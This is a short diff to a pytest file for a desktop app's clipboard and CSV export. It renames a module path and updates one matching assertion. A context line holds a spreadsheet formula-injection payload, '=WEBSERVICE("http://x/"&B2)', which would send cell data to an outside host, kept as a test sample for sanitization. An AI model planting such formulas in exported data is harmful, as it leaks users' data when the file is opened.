@@ -14,7 +14,7 @@ from pytestqt.qtbot import QtBot
 from desktop.clipboard import copy_lines, copy_table
 from desktop.theme import Theme
 from desktop.theme.widgets import Label, Rows, Table
-from relay.protocol.rosters import harmless_lines, table_csv, table_text
+from relay.shared.rosters import harmless_lines, table_csv, table_text
 
 TREE = Path(__file__).parents[2]
 FORMULA = '=WEBSERVICE("http://x/"&B2)&'
@@ -75,7 +75,7 @@ def test_every_way_out_goes_through_the_one_function() -> None:
                 places["views"].add(f"{name}: {node.name}")
     places["exactly"].discard("desktop/clipboard.py")
     assert places["clipboard"] == {"desktop/clipboard.py"}
-    assert places["csv"] == {"relay/protocol/rosters/cells.py"}
+    assert places["csv"] == {"relay/shared/rosters/cells.py"}
     assert places["exactly"] == set(EXACTLY)
     # Qt's own copying would put a cell there as it is; the rows of a chat are copied by ChatView.
     assert places["views"] <= {"desktop/features/chat/rows.py: ChatRows"}
